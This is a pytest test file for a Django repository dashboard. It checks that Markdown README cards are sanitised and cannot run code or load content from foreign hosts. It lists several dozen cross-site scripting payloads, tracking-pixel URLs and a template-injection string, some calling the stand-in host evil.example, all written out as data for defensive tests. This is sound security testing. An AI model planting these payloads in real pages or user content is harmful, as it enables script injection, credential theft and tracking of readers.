"""A card is somebody else's Markdown: it may be read, and can do nothing."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from django.test import Client

from apps.core.principal import Principal
from tests.dashboard.conftest import MakeRepository, put
from tests.support.html import Page

HOST = "127.0.0.1"
# What a card must not be able to say; whatever is left of it must be harmless.
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals, unclosed": "<ScRiPt src=//evil.example/x.js>",
    "script in a split tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler after a slash": "<img/src=x/onerror=alert(1)>",
    "handler of a harmless tag": "<details open ontoggle=alert(1)>x</details>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript link with a tab": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript link, encoded": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "javascript link after a space": '<a href=" &#14; javascript:alert(1)">x</a>',
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data link in Markdown": "[x](data:text/html,<script>alert(1)</script>)",
    "data picture": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "svg": "<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>",
    "svg in a foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "frame with its content": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": '<object data="https://evil.example/x.swf"></object><embed src="//evil.example/y">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{background:url(//evil.example)}</style>',
    "style": '<p style="background:url(https://evil.example/x)">x</p>',
    "form": '<form action="https://evil.example/"><input name="password"><button formaction="//evil.example">x</button></form>',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "end of a comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<textarea></textarea><img src=x onerror=alert(1)>",
    "attribute that ends early": '![x](a "\\" onerror=alert(1) \\"")',
    "code with a fence's name": '```"><img src=x onerror=alert(1)>\nx\n```',
    "server's own words": "{% load x %}{{ request.user.password }}{% include 'base.html' %}",
}
# Pictures on other hosts tell them who reads the card.
FOREIGN_PICTURES = {
    "https": "![x](https://evil.example/pixel.png)",
    "without a scheme": "![x](//evil.example/pixel.png)",
    "backslashes": '<img src="/\\evil.example/pixel.png">',
    "two backslashes": '<img src="\\\\evil.example/pixel.png">',
    "tab between slashes": '<img src="/&#9;/evil.example/pixel.png">',
    "line between slashes": '<img src="/&#10;/evil.example/pixel.png">',
    "space before": '<img src=" //evil.example/pixel.png">',
    "control character before": '<img src="&#1;https://evil.example/pixel.png">',
    "several": '<img srcset="https://evil.example/pixel.png 2x" src="x.png">',
}


Show = Callable[[str], Page]


@pytest.fixture
def show(alices_browser: Client, make_repository: MakeRepository, as_alice: Principal) -> Show:
    """The page of a repository with that card."""
    repository = make_repository("card", "model")

    def shown(markdown: str) -> Page:
        put(as_alice, repository, {"README.md": f"# Title\n\n{markdown}\n\nThe end.\n".encode()})
        answer = alices_browser.get("/acme/card")
        assert answer.status_code == 200
        return Page.of(answer.content.decode())

    return shown


def harm(page: Page) -> list[str]:
    """What a card has got into its page that is more than text, links and pictures."""
    found = page.active()
    plain = [value.replace("\t", "").strip().lower() for _, attributes in page.tags for value in attributes.values()]
    found += [value for value in plain if value.startswith(("javascript:", "vbscript:", "data:"))]
    found += [f"<link> {link['href']}" for link in page.all("link") if not link["href"].startswith("/static/")]
    found += ["<meta http-equiv>" for meta in page.all("meta") if "http-equiv" in meta]
    found += [f"<form> {form['action']}" for form in page.all("form") if form["action"] != "/accounts/logout/"]
    return found + [f"<input> {field['name']}" for field in page.all("input") if field["name"] != "csrfmiddlewaretoken"]


def test_a_hostile_card_does_nothing(show: Show) -> None:
    found = {name: harm(show(markdown)) for name, markdown in HOSTILE.items()}
    assert {name: what for name, what in found.items() if what} == {}


def test_a_card_loads_nothing_from_elsewhere(show: Show) -> None:
    found = {name: show(markdown).foreign_addresses(HOST) for name, markdown in FOREIGN_PICTURES.items()}
    assert {name: what for name, what in found.items() if what} == {}


def test_pictures_of_the_repository_are_shown(show: Show) -> None:
    page = show("![a](images/a.png) ![b](./b.png) ![c](/acme/card/resolve/main/c.png)")
    base = "/acme/card/resolve/main/"
    assert [image["src"] for image in page.all("img")] == [f"{base}images/a.png", f"{base}b.png", f"{base}c.png"]


def test_links_to_elsewhere_stay_and_promise_nothing(show: Show) -> None:
    page = show("[paper](https://example.org/paper)")
    link = next(link for link in page.all("a") if link["href"] == "https://example.org/paper")
    assert {"noopener", "noreferrer", "nofollow"} <= set(link["rel"].split())


def test_what_cards_are_written_with_survives(show: Show) -> None:
    page = show("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n**bold** ~~gone~~")
    for tag in ("table", "th", "td", "pre", "code", "strong"):
        assert page.all(tag), tag
    assert "x = 1" in page.text


def test_tags_of_a_card_are_text(alices_browser: Client, make_repository: MakeRepository) -> None:
    front = b"---\ntags: ['<script>alert(1)</script>', '\"><img src=x onerror=alert(1)>']\n---\n"
    make_repository("card", "model", README_dot_md=front)
    page = Page.of(alices_browser.get("/acme/card").content.decode())
    assert page.active() == page.all("img") == []
    assert "<script>alert(1)</script>" in page.text
